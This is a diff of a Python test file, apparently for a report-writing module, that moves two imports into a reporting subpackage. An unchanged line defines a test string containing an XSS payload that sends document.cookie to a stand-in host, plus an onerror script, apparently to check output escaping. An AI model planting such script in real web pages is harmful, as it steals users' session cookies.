@@ -11,8 +11,8 @@ from typing import Any
 import pytest
 
 from turnwise.algorithms.files import RunFolderError
-from turnwise.algorithms.report import write_report
-from turnwise.algorithms.runlog import RunLog
+from turnwise.algorithms.reporting.report import write_report
+from turnwise.algorithms.reporting.runlog import RunLog
 from turnwise.records import Episode, Message, Turn
 
 EVIL = "<script>fetch('https://evil.example/' + document.cookie)</script><img src=x onerror=alert(1)>\ud800 [bet]"
